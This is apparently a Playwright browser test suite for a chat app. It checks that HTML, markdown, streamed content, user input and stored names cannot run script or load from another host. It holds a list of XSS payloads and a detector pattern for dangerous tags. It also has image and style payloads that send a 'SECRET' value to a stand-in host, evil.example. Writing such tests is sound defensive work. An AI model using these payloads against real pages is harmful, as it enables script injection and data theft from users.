"""Whatever an agent shows, a user writes or a name says, nothing of it runs or calls elsewhere."""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from chat.localagent.wire import Json
from tests.browser.chat import PATIENCE_MS, Chat
from tests.browser.conftest import Person
from tests.browser.director import Director
from tests.browser.watch import Watch

if TYPE_CHECKING:
    from playwright.sync_api import Locator

pytestmark = pytest.mark.browser

type OpenChat = Callable[..., Chat]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '<b onclick="alert(1)" onmouseover="alert(1)">x</b>',
    "<form action=https://evil.example/><input name=text autofocus onfocus=alert(1)></form>",
    "<div hx-get=/accounts/logout/ hx-trigger=load hx-swap-oob=true id=composer>x</div>",
    "<div id=composer-error hx-swap-oob=innerHTML data-hx-on:click=alert(1)>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/y)'>x</p>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<template><script>alert(1)</script></template>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
    "typeagent-browser:library [x](typeagent-browser:library)",
]
LEAK = "https://evil.example/p?x=SECRET"

DANGERS = """
root => {
  const tags = "script,iframe,object,embed,svg,math,style,link,meta,base,template,input,textarea,"
    + "select,video,audio,source,picture,frame,frameset,applet,portal,dialog";
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    const inBody = element.closest("[data-body]");
    if (element.matches(tags) && element.closest("#transcript") && !element.closest(".foot form"))
      found.push(element.outerHTML);
    if (inBody && element.matches("form, button:not(.copy)")) found.push(element.outerHTML);
    for (const {name, value} of element.attributes) {
      const at = `${element.tagName} ${name}=${value}`;
      if (name.startsWith("on") || /^(srcdoc|style|srcset|formaction)$/.test(name))
        found.push(at);
      if (/^(data-)?(hx|ws|sse)-/.test(name) && inBody && element !== inBody) found.push(at);
      if (/^(href|xlink:href|action)$/.test(name) && inBody && !/^(https?|mailto):/.test(value))
        found.push(at);
      if (name === "src" && inBody && !/^data:image\\/(png|jpeg|gif|webp)/.test(value))
        found.push(at);
    }
  }
  const ids = Array.from(root.querySelectorAll("[id]"), element => element.id);
  for (const id of ids) if (ids.indexOf(id) !== ids.lastIndexOf(id)) found.push("twice: " + id);
  return found;
}
"""
"""Everything in a page that could run, load or look like ours, as text."""


def assert_harmless(chat: Chat, watch: Watch) -> None:
    """Nothing dangerous is in the page, and nothing has happened."""
    assert chat.page.locator("html").evaluate(DANGERS) == []
    watch.assert_quiet(chat.page)


def press_links(links: Locator) -> None:
    """Point at everything that could react to it, without going anywhere."""
    for link in links.all():
        link.dispatch_event("mouseover")
        link.focus()


def of_every_type(payload: str) -> list[Json]:
    """A payload in every kind of content that an agent can show."""
    return [
        {"type": "markdown", "content": payload},
        {"type": "text", "content": payload},
        {"type": "html", "content": payload},
        {"type": "iframe", "content": payload},
        {"type": payload, "content": payload},
        {"type": "text", "content": [[payload, "b"], [payload, payload]]},
        {"type": "text", "content": payload, "kind": "error"},
        {"type": "html", "content": "-", "alternates": [{"type": "markdown", "content": payload}]},
    ]


def test_c71_nothing_that_an_agent_shows_runs(
    person: Person, open_chat: OpenChat, director: Director
) -> None:
    watch = Watch()
    chat = open_chat(person, prepare=watch.on)
    chat.wait_connected()
    chat.send("@told c71 shown")
    part = director.part("c71 shown")
    for payload in PAYLOADS:
        part.show(*of_every_type(payload))
    part.show("The end")
    part.finish()
    expect(chat.answer_text).to_contain_text("The end", timeout=PATIENCE_MS)
    chat.wait_ended()
    assert chat.answer_text.locator(".block").count() > len(PAYLOADS)
    assert_harmless(chat, watch)
    press_links(chat.answer_text.locator("a"))
    chat.reload()
    expect(chat.answer_text).to_contain_text("The end")
    assert_harmless(chat, watch)


def test_c71_nothing_that_streams_in_pieces_runs(
    person: Person, open_chat: OpenChat, director: Director
) -> None:
    watch = Watch()
    chat = open_chat(person, prepare=watch.on)
    chat.wait_connected()
    chat.send("@told c71 streamed")
    part = director.part("c71 streamed")
    for number, payload in enumerate(PAYLOADS):
        part.append(*payload, f"\n\nnumber {number}\n\n")
        if number % 3 == 0:
            assert_harmless(chat, watch)
    part.append("\n```\n\nThe end")
    expect(chat.answer_text).to_contain_text("The end", timeout=PATIENCE_MS)
    assert_harmless(chat, watch)
    part.finish()
    chat.wait_ended()
    assert_harmless(chat, watch)


def test_c71_nothing_that_a_user_writes_or_is_echoed_runs(
    person: Person, open_chat: OpenChat
) -> None:
    watch = Watch()
    chat = open_chat(person, prepare=watch.on)
    chat.wait_connected()
    written = "\n".join(PAYLOADS)
    for text in (written, f"@display {written}"):
        chat.send(text)
        chat.wait_ended(chat.answers.count() or 1)
    expect(chat.messages.first).to_contain_text("<img src=x onerror=alert(1)>")
    assert_harmless(chat, watch)
    chat.reload()
    expect(chat.messages.first).to_contain_text("<img src=x onerror=alert(1)>")
    assert_harmless(chat, watch)


NAMED = """
from django.contrib.auth.models import User
user = User.objects.get(username={name!r})
user.conversations.create(name={payload!r})
user.username = {payload!r} + user.username
user.save()
"""


def test_c71_no_name_source_icon_or_error_runs(
    person: Person, open_chat: OpenChat, director: Director
) -> None:
    payload = "\"'><img src=x onerror=alert(1)></title><script>alert(1)</script>{{7*7}}"
    person.site.manage("shell", "-c", NAMED.format(name=person.name, payload=payload))
    watch = Watch()
    chat = open_chat(person, prepare=watch.on)
    chat.wait_connected()
    expect(chat.page.locator("h1")).to_have_text(payload)
    assert chat.page.title() == payload
    chat.page.get_by_label("Menu").click()
    expect(chat.page.locator("[data-logout]")).to_contain_text(payload)

    chat.send("@told c71 names")
    part = director.part("c71 names")
    part.show("Said", source=payload, sourceIcon="<script>alert(1)</script>")
    expect(chat.answer.locator(".by")).to_contain_text(payload)
    assert_harmless(chat, watch)
    chat.reload()
    expect(chat.answer.locator(".by")).to_contain_text(payload)
    assert_harmless(chat, watch)

    part.fail(payload)
    chat.wait_ended()
    expect(chat.answer_text).to_contain_text(payload)
    assert_harmless(chat, watch)
    chat.reload()
    expect(chat.answer_text).to_contain_text(payload)
    assert_harmless(chat, watch)


def test_c73_no_picture_or_style_of_an_answer_reaches_another_host(
    person: Person, open_chat: OpenChat, director: Director
) -> None:
    watch = Watch()
    chat = open_chat(person, prepare=watch.on)
    chat.wait_connected()
    chat.send("@told c73")
    part = director.part("c73")
    part.append(*f"![a chart]({LEAK})\n\n")
    for tag in (
        f"<img src='{LEAK}' srcset='{LEAK} 2x'>",
        f"<picture><source srcset='{LEAK}'><img src='{LEAK}'></picture>",
        f"<video poster='{LEAK}' src='{LEAK}'></video><audio src='{LEAK}'></audio>",
        f"<link rel=prefetch href='{LEAK}'><link rel=preconnect href='{LEAK}'>",
        f"<table background='{LEAK}'><tr><td style='background:url({LEAK})'>x</table>",
        f"<iframe src='{LEAK}'></iframe>",
    ):
        part.show({"type": "html", "content": tag}, {"type": "markdown", "content": tag})
    part.show({"type": "markdown", "content": f"![one][1] ![]({LEAK}) <{LEAK}>\n\n[1]: {LEAK}"})
    part.show({"type": "text", "content": "The end"})
    expect(chat.answer_text).to_contain_text("The end", timeout=PATIENCE_MS)
    part.finish()
    chat.wait_ended()
    expect(chat.answer_text.locator("img")).to_have_count(0)
    link = chat.answer_text.get_by_role("link", name="a chart")
    expect(link).to_have_attribute("href", LEAK)
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert_harmless(chat, watch)
    chat.reload()
    expect(link).to_be_visible()
    assert_harmless(chat, watch)
